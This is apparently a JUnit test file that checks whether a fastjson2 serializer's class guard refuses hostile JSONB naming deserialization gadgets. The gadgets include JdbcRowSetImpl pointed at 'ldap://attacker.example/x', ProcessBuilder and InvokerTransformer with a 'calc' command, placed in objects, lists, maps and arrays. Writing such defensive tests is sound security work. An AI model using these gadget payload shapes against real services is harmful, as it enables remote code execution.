package io.triple.serialization.fastjson2;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.alibaba.fastjson2.JSONWriter;
import io.triple.pojo.spi.ClassGuard;
import io.triple.pojo.spi.ClassRefusedException;
import io.triple.serialization.fastjson2.Fixtures.Address;
import io.triple.serialization.fastjson2.Fixtures.Holder;
import io.triple.serialization.fastjson2.Fixtures.Person;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile JSONB, written with fastjson2's own JSONB writer the way an attacker would, naming
 * classes the guard refuses in the places JSONB carries a class name, framed as Dubbo frames it.
 */
class Fastjson2GuardTest {
  private static final ClassGuard PERMISSIVE = ClassGuard.permissive(Fastjson2GuardTest.class.getClassLoader());
  private static final String EVIL = "io.triple.serialization.fastjson2.Evil";

  private final Fastjson2Serialization serialization = new Fastjson2Serialization();

  interface Body {
    void write(JSONWriter out);
  }

  /** Dubbo's frame: a 4-byte big-endian length, then the JSONB. */
  private static byte[] frame(Body body) {
    try (JSONWriter out = JSONWriter.ofJSONB()) {
      body.write(out);
      byte[] jsonb = out.getBytes();
      return ByteBuffer.allocate(4 + jsonb.length).putInt(jsonb.length).put(jsonb).array();
    }
  }

  /** An object of class {@code type} (its "autoType") with one field. */
  private static void object(JSONWriter out, String type, String field, String value) {
    out.writeTypeName(type);
    out.startObject();
    out.writeName(field);
    out.writeString(value);
    out.endObject();
  }

  record Shape(String what, byte[] bytes, List<Class<?>> declared) {}

  private static final List<Class<?>> ANY = List.of(Object.class, Holder.class, Map.class, List.class, Object[].class);

  /** The places JSONB carries a class name, naming {@code className}. */
  private static List<Shape> shapes(String className) {
    return List.of(
        new Shape("a typed object", frame(out -> object(out, className, "dataSourceName", "ldap://attacker.example/x")), ANY),
        new Shape("a typed object in the Object field of a harmless class", nested(className),
            List.of(Object.class, Holder.class)),
        new Shape("a typed object in a list", frame(out -> {
          out.startArray(1);
          object(out, className, "command", "calc");
          out.endArray();
        }), List.of(Object.class, List.class, Object[].class)),
        new Shape("a typed object as a map value", frame(out -> {
          out.startObject();
          out.writeName("k");
          object(out, className, "command", "calc");
          out.endObject();
        }), List.of(Object.class, Map.class)),
        new Shape("a typed array of the class ([X)", frame(out -> {
          out.writeTypeName("[" + className);
          out.startArray(1);
          out.writeNull();
          out.endArray();
        }), List.of(Object.class, Object[].class)),
        new Shape("a typed array of the class (X[])", frame(out -> {
          out.writeTypeName(className + "[]");
          out.startArray(1);
          out.writeNull();
          out.endArray();
        }), List.of(Object.class, Object[].class)));
  }

  /** A {@link Holder} whose Object field holds an object of class {@code className}. */
  private static byte[] nested(String className) {
    return frame(out -> {
      out.writeTypeName(Holder.class.getName());
      out.startObject();
      out.writeName("payload");
      object(out, className, "command", "calc");
      out.endObject();
    });
  }

  private Object read(byte[] bytes, Class<?> declared, ClassGuard guard) throws IOException {
    return serialization.read(new ByteArrayInputStream(bytes), declared, declared, guard);
  }

  private void assertRefused(byte[] bytes, Class<?> declared, ClassGuard guard, String className, String what) {
    ClassRefusedException e = assertThrows(ClassRefusedException.class, () -> read(bytes, declared, guard),
        () -> what + " read as " + declared.getName());
    assertEquals(className, e.className(), what);
    assertTrue(e.getMessage().contains(className), e.getMessage());
  }

  @ParameterizedTest
  @ValueSource(strings = {"com.sun.rowset.JdbcRowSetImpl", "java.lang.ProcessBuilder",
      "org.apache.commons.collections.functors.InvokerTransformer"})
  void gadgetsAreRefusedWhereverTheBytesNameThem(String gadget) {
    for (Shape shape : shapes(gadget)) {
      for (Class<?> declared : shape.declared()) {
        assertRefused(shape.bytes(), declared, PERMISSIVE, gadget, shape.what());
        assertRefused(shape.bytes(), declared, PERMISSIVE, gadget, shape.what()); // no cache lets a second through
      }
    }
  }

  @Test
  void aClassOutsideAStrictAllowSetIsNeitherLoadedNorCreated() {
    AllowSetGuard guard = AllowSetGuard.of(Holder.class);
    for (Shape shape : shapes(EVIL)) {
      for (Class<?> declared : shape.declared()) {
        assertRefused(shape.bytes(), declared, guard, EVIL, shape.what());
      }
    }
    assertTrue(guard.asked.contains(EVIL));
    assertFalse(Evil.Flag.TOUCHED.get(), "Evil was initialized or instantiated");
  }

  @Test
  void theSameBytesWithTheClassAllowedDoTripTheFlag() throws IOException {
    // Control for the test above: reading such a class when it is allowed does create it.
    Object read = read(nested(Tripwire.class.getName()), Holder.class, AllowSetGuard.of(Holder.class, Tripwire.class));
    assertInstanceOf(Tripwire.class, ((Holder) read).payload);
    assertTrue(Tripwire.Flag.TOUCHED.get());
  }

  @Test
  void anUnknownClassIsRefused() {
    String unknown = "com.example.DoesNotExist";
    assertRefused(nested(unknown), Holder.class, PERMISSIVE, unknown, "unknown");
    assertRefused(frame(out -> object(out, unknown, "a", "b")), Object.class, PERMISSIVE, unknown, "unknown");
  }

  @Test
  void aClassReadOnceIsStillAskedForUnderAnotherGuard() throws IOException {
    // An element of an Address[] that names its class Address makes a fastjson2 reader provider
    // remember the hash of that name; the exception reader (which reads where Dubbo declares
    // Exception: exception replies) looks such hashes up before it asks the handler. With the
    // JVM-wide default provider, the second read below creates an Address its guard never saw.
    String address = Address.class.getName();
    byte[] typedElement = frame(out -> {
      out.writeTypeName("[" + address);
      out.startArray(1);
      object(out, address, "city", "Rome");
      out.endArray();
    });
    assertEquals("Rome", ((Address[]) read(typedElement, Address[].class, PERMISSIVE))[0].city);
    byte[] namedAddress = frame(out -> object(out, address, "city", "Oslo"));
    for (int i = 0; i < 2; i++) {
      assertRefused(namedAddress, Exception.class, AllowSetGuard.of(Exception.class), address, "as an exception");
      assertRefused(namedAddress, Object.class, AllowSetGuard.of(Exception.class), address, "as an object");
    }
  }

  @Test
  void aGadgetDeclaredTypeIsRefusedEvenWhenTheBytesNameNoClass() {
    byte[] emptyObject = frame(out -> {
      out.startObject();
      out.endObject();
    });
    assertRefused(emptyObject, javax.management.ObjectName.class, PERMISSIVE, "javax.management.ObjectName", "declared");
  }

  @Test
  void refusalInsideAPojoFieldIsNotLostInFastjsonsWrapping() {
    byte[] bytes = frame(out -> {
      out.writeTypeName(Person.class.getName());
      out.startObject();
      out.writeName("extra");
      object(out, "com.sun.rowset.JdbcRowSetImpl", "dataSourceName", "ldap://x");
      out.endObject();
    });
    assertRefused(bytes, Person.class, PERMISSIVE, "com.sun.rowset.JdbcRowSetImpl", "field");
  }

  @Test
  void truncatedFramesFail() {
    assertThrows(IOException.class, () -> read(new byte[] {0, 0}, Object.class, PERMISSIVE));
    assertThrows(IOException.class, () -> read(new byte[] {0, 0, 0, 9, 1}, Object.class, PERMISSIVE));
    assertThrows(IOException.class, () -> read(new byte[] {(byte) 0x80, 0, 0, 0}, Object.class, PERMISSIVE));
    assertThrows(IOException.class, () -> read(new byte[] {0x7f, (byte) 0xff, (byte) 0xff, (byte) 0xff}, Object.class, PERMISSIVE));
  }
}
